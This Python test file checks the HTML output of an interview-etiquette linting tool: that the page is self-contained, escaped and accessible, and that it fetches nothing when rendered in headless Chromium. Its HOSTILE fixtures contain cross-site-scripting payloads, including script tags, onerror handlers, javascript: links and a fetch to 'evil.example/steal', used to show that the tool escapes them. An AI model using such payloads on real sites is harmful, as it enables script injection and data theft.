"""The HTML page (`timeline --format html`, `check --format html`): self-contained, escaped,
accessible, and checked in a real headless Chromium (skipped, with the install command, when it is
absent): every action and finding is in the rendered DOM, and the page makes no network request."""

from __future__ import annotations

import json
import shutil
import subprocess
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest

from etiquette_lint.cli import main
from etiquette_lint.lint import Options, lint_files
from etiquette_lint.plan import load_plan

from conftest import EXAMPLES

TODAY = "2026-11-26"
EXAMPLE_NAMES = ["clean", "messy", "multi"]
CHROMIUM = next(
    (shutil.which(name) for name in ("chromium", "chromium-browser", "google-chrome") if shutil.which(name)), None
)
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None, reason="needs headless Chromium: sudo apt-get install -y chromium"
)
# Chromium's own background traffic (updates, sync, accounts) off, and every host name unresolvable:
# what is left in the net log on behalf of the page is a request the page made.
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--hide-scrollbars",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-extensions",
    "--disable-default-apps",
    "--no-first-run",
    "--disable-features=Translate,OptimizationHints,MediaRouter,SpellCheck",
    "--host-resolver-rules=MAP * ~NOTFOUND",
]


class Elements(HTMLParser):
    """Every element of a document: (tag, attributes), plus the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def all(self, tag=None, **attrs) -> list[dict]:
        return [
            a for t, a in self.elements if (tag is None or t == tag) and all(a.get(k) == v for k, v in attrs.items())
        ]

    def classed(self, name: str) -> list[dict]:
        return [a for _, a in self.elements if name in (a.get("class") or "").split()]


def page(capsys, *args: str) -> tuple[int, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out


def report_of(path: Path):
    plans: list = []
    return lint_files([str(path)], Options(today=date.fromisoformat(TODAY)), plans=plans), plans


def assert_self_contained(html: str) -> None:
    doc = Elements(html)
    lowered = html.lower()
    for tag in ("script", "img", "link", "iframe", "object", "embed", "video", "audio", "source", "base"):
        assert not doc.all(tag), f"<{tag}> in the page"
    assert "@import" not in lowered and "url(" not in lowered and "@font-face" not in lowered
    for _, attrs in doc.elements:
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler attribute {name}"
            if name in ("href", "src", "action", "srcset", "poster", "data"):
                assert (value or "").startswith("#"), f"{name}={value!r} leaves the page"
    ids = {a["id"] for _, a in doc.elements if "id" in a}
    targets = {a["href"][1:] for a in doc.all("a") if a.get("href", "").startswith("#")}
    assert targets <= ids, f"links to nothing: {sorted(targets - ids)}"
    assert len(ids) == len([a for _, a in doc.elements if "id" in a]), "duplicate ids"


@pytest.mark.parametrize("example", EXAMPLE_NAMES)
@pytest.mark.parametrize("command", ["timeline", "check"])
def test_page_holds_every_action_and_finding_and_nothing_external(capsys, example, command):
    code, html = page(capsys, command, str(EXAMPLES / example), "--today", TODAY, "--format", "html")
    report, plans = report_of(EXAMPLES / example)
    assert code == (1 if command == "check" and report.fails("error") else 0)
    assert_self_contained(html)
    doc = Elements(html)
    assert len(doc.all("h1")) == 1 and doc.all("main") and doc.all("header") and doc.all("footer")
    assert doc.all("html")[0].get("lang") == "en"
    pointers = [a.get("data-pointer") for a in doc.classed("event")]
    for action in plans[0].actions:  # once per plan that has it (messy/ holds two plans)
        expected = sum(1 for plan in plans for other in plan.actions if other.pointer == action.pointer)
        assert pointers.count(action.pointer) == expected, action.pointer
    # Every finding sits on the timeline once (id f-N), with its severity written as a word.
    placed = [a for a in doc.classed("finding") if a.get("id", "").startswith("f-")]
    assert sorted(a["data-rule"] for a in placed) == sorted(f.rule for f in report.findings)
    text = " ".join(doc.text)
    for finding in report.findings:
        assert finding.message in text
    if command == "check":
        # The report: the timeline first, then the list of every finding.
        listed = doc.classed("findings-all")
        assert len(listed) == len({f.path for f in report.findings})
        assert html.index('class="company"') < html.index('id="findings"')


def test_findings_in_drafts_link_to_the_words_they_quote(capsys):
    _, html = page(capsys, "timeline", str(EXAMPLES / "messy"), "--today", TODAY, "--format", "html")
    report, _ = report_of(EXAMPLES / "messy")
    doc = Elements(html)
    drafted = [(n, f) for n, f in enumerate(report.findings, 1) if f.path != f.plan]
    assert drafted
    for n, _finding in drafted:
        assert doc.all("a", href=f"#q-{n}"), n  # from the finding to the words
        assert doc.all("span", id=f"q-{n}")  # the anchor in the draft
        assert doc.all("a", href=f"#f-{n}")  # and back
    # The quoted words are marked in the draft: the placeholder of the note to Tom.
    assert '<mark class="error" title="unfilled-placeholder">[specific topic]</mark>' in html


HOSTILE = """\
version: 1
candidate: {name: "Riley <b>Quinn</b>"}
interviews:
  - id: onsite
    company: "Harbor <script>alert('company')</script> Analytics"
    role: "Data & <i>Platform</i> Lead"
    date: 2027-03-02
    timing: {asked: true}
    interviewers:
      - {id: dana, name: "Dana \\"<img src=x onerror=alert(1)>\\" Whitfield", email: dana@harbor.example, hiring_manager: true, topics: [pipeline latency]}
actions:
  - kind: thank_you
    channel: email
    to: dana
    date: 2027-03-02
    subject: "</title><script>alert('subject')</script>"
    draft: drafts/dana.md
"""
HOSTILE_DRAFT = """\
Hi Dana,

Thank you for the talk on pipeline latency. [specific detail]
<script>document.body.innerHTML = 'pwned'; fetch('https://evil.example/steal')</script>
<img src="https://evil.example/pixel.png" onerror="alert(2)">
<a href="javascript:alert(3)">click</a> <style>body{display:none}</style>
"""


def hostile_plan(tmp_path: Path) -> Path:
    (tmp_path / "drafts").mkdir()
    (tmp_path / "drafts" / "dana.md").write_text(HOSTILE_DRAFT, encoding="utf-8")
    plan = tmp_path / "harbor.plan.yaml"
    plan.write_text(HOSTILE, encoding="utf-8")
    return plan


def test_markup_in_plans_and_drafts_is_text(capsys, tmp_path):
    plan = hostile_plan(tmp_path)
    code, html = page(capsys, "check", str(plan), "--today", "2027-03-05", "--format", "html")
    assert code == 1  # unfilled-placeholder is an error
    assert_self_contained(html)
    assert "<script" not in html.lower().replace("&lt;script", "")
    assert (
        "document.body.innerHTML = &#x27;pwned&#x27;; fetch(&#x27;https://evil.example/steal&#x27;)&lt;/script&gt;"
        in html
    )
    assert "&lt;img src=&quot;https://evil.example/pixel.png&quot;" in html
    assert "Harbor &lt;script&gt;alert(&#x27;company&#x27;)&lt;/script&gt; Analytics" in html
    assert "javascript:" not in Elements(html).all("a")[0].get("href", "")


def test_timeline_html_to_output_file(capsys, tmp_path):
    target = tmp_path / "timeline.html"
    code, out = page(
        capsys, "timeline", str(EXAMPLES / "multi"), "--today", TODAY, "--format", "html", "--output", str(target)
    )
    assert code == 0 and out == ""
    assert target.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


# --- in a real browser ------------------------------------------------------------------------


def chromium(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [CHROMIUM, *CHROMIUM_FLAGS, f"--user-data-dir={cwd / 'profile'}", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=120,
    )


def page_requests(net_log: Path) -> list[str]:
    """URLs requested on behalf of a file:// page, from Chromium's net log."""
    log = json.loads(net_log.read_text(encoding="utf-8"))
    start = log["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    out = []
    for event in log["events"]:
        params = event.get("params") or {}
        on_behalf_of_page = "file://" in params.get("network_isolation_key", "")
        if event["type"] == start and on_behalf_of_page and not params.get("url", "").startswith("file:"):
            out.append(params["url"])
    return out


def render(html_file: Path, tmp_path: Path) -> tuple[Elements, list[str]]:
    net_log = tmp_path / f"{html_file.stem}.netlog.json"
    result = chromium(f"--log-net-log={net_log}", "--dump-dom", html_file.as_uri(), cwd=tmp_path)
    assert result.returncode == 0, result.stderr[-2000:]
    return Elements(result.stdout), page_requests(net_log)


@needs_chromium
def test_the_net_log_check_sees_a_request_when_there_is_one(tmp_path):
    control = tmp_path / "control.html"
    control.write_text('<!DOCTYPE html><img src="http://example.invalid/pixel.png">', encoding="utf-8")
    _, requests = render(control, tmp_path)
    assert requests == ["http://example.invalid/pixel.png"]


@needs_chromium
@pytest.mark.parametrize("example", EXAMPLE_NAMES)
def test_in_chromium_every_action_and_finding_is_rendered_and_nothing_is_fetched(capsys, tmp_path, example):
    report, plans = report_of(EXAMPLES / example)
    for command in ("timeline", "check"):
        target = tmp_path / f"{command}-{example}.html"
        code, _ = page(
            capsys, command, str(EXAMPLES / example), "--today", TODAY, "--format", "html", "--output", str(target)
        )
        assert code in (0, 1)
        dom, requests = render(target, tmp_path)
        assert requests == []
        assert not dom.all("script")
        rendered = [a.get("data-pointer") for a in dom.classed("event")]
        for action in plans[0].actions:
            assert action.pointer in rendered
        on_timeline = sorted(a["data-rule"] for a in dom.classed("finding") if a.get("id", "").startswith("f-"))
        assert on_timeline == sorted(f.rule for f in report.findings)
        assert any(a.get("data-kind") == "today" for a in dom.classed("event"))
    screenshot = tmp_path / f"timeline-{example}.png"
    result = chromium("--window-size=1100,1400", f"--screenshot={screenshot}", target.as_uri(), cwd=tmp_path)
    assert result.returncode == 0, result.stderr[-2000:]
    assert screenshot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


@needs_chromium
def test_in_chromium_a_hostile_draft_runs_nothing(capsys, tmp_path):
    plan = hostile_plan(tmp_path)
    target = tmp_path / "hostile.html"
    page(capsys, "check", str(plan), "--today", "2027-03-05", "--format", "html", "--output", str(target))
    dom, requests = render(target, tmp_path)
    assert requests == []
    assert not dom.all("script") and not dom.all("img")
    text = " ".join(dom.text)
    assert "document.body.innerHTML = 'pwned'; fetch('https://evil.example/steal')</script>" in text  # text, not run
    assert dom.classed("company")  # the page is still there


def test_load_plan_of_examples_is_what_the_page_shows():
    # Guard for the tests above: the examples have actions to look for.
    for example in EXAMPLE_NAMES:
        plan_file = next((EXAMPLES / example).glob("*.plan.yaml"))
        assert load_plan(str(plan_file), today=date.fromisoformat(TODAY)).actions
